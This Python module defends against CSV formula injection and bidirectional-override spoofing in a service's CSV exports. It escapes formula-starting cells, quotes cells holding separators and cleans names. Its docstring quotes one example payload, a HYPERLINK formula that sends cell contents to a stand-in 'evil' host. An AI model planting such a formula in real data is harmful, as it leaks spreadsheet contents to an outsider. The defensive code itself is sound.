"""CSV files that a spreadsheet opens without running anything in them (CSV formula injection, OWASP).

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and a tab or a carriage return
first can hide one; a name a student typed (`=HYPERLINK("http://evil/?"&A1, "grade")`) would run in the
instructor's spreadsheet. Every CSV file the service writes goes through `writer`: a text cell that starts
with one of those characters gets a single quote in front (OWASP's advice), which the spreadsheet shows as
text. Numbers stay numbers: an int or a float is never touched, and neither is a text cell that is a plain
decimal number (`-3.5`, a score written as text).

A spreadsheet may split on another separator than the file's (`;` where `,` is the decimal mark): a cell
`a;=1+1` would open as two, the second a formula. So a formula start after a separator (`,`, `;`, a tab, `|`,
a line break) gets its single quote too (`a;'=1+1`), and a text cell that holds a separator is always written
between double quotes (one cell for a spreadsheet that splits on the file's own separator).

`clean_name` takes control characters and the bidirectional overrides (U+202A..U+202E, U+2066..U+2069, the
marks U+200E, U+200F, U+061C) out of a name before it is kept: a right-to-left override would show a name
reversed in a page, a file or a spreadsheet (`gnp.exe` for `exe.png`).
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as the start of a formula
SEPARATORS = (",", ";", "\t", "|", "\n", "\r")  # what a spreadsheet may split a line on: the cell is quoted
BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")  # a plain number, which no spreadsheet runs


# a separator (not first), spaces, then a formula start: the quote goes in front of that
AFTER_SEPARATOR = re.compile(r"(?<=[^\n])([,;\t|\n\r][ ]*)([=+\-@\t\r][^,;\t|\n\r]*)")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet may open it: text that could start a formula, at its start or after a
    separator, behind a single quote."""
    if not isinstance(value, str):
        return value
    if any(s in value for s in SEPARATORS):
        value = AFTER_SEPARATOR.sub(r"\1'\2", value)  # (a number too: its piece goes on with the quote and more)
    if value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def clean_name(value: str) -> tuple[str, int]:
    """`value` without control characters and bidirectional overrides (a tab or a line break becomes a space),
    and how many were taken out."""
    kept, removed = [], 0
    for c in value:
        if c in BIDI or unicodedata.category(c) == "Cc":
            removed += 1
            if c.isspace():  # a tab or a line break between two words: a space
                kept.append(" ")
        else:
            kept.append(c)
    return "".join(kept), removed


def _quoted(value: Any) -> bool:
    return isinstance(value, str) and any(s in value for s in SEPARATORS)


class SafeWriter:
    """csv.writer's `writerow` and `writerows`, each cell through `safe_cell`, and a text cell that holds a
    separator between double quotes (whatever the writer's quoting would do)."""

    def __init__(self, out, **options):
        self._out = out
        self._w = csv.writer(out, **options)
        self._buf = io.StringIO()
        self._one = csv.writer(self._buf, **options)
        self._all = csv.writer(self._buf, **{**options, "quoting": csv.QUOTE_ALL})

    def writerow(self, row) -> None:
        cells = [safe_cell(v) for v in row]
        if not any(_quoted(c) for c in cells):
            self._w.writerow(cells)
            return
        dialect, parts = self._w.dialect, []
        for c in cells:
            if c is None or c == "":
                parts.append("")
                continue
            self._buf.seek(0)
            self._buf.truncate()
            (self._all if _quoted(c) else self._one).writerow([c])
            parts.append(self._buf.getvalue()[: -len(dialect.lineterminator)])
        self._out.write(dialect.delimiter.join(parts) + dialect.lineterminator)

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """A CSV writer (csv.writer's options) whose text cells cannot start a formula."""
    return SafeWriter(out, **options)
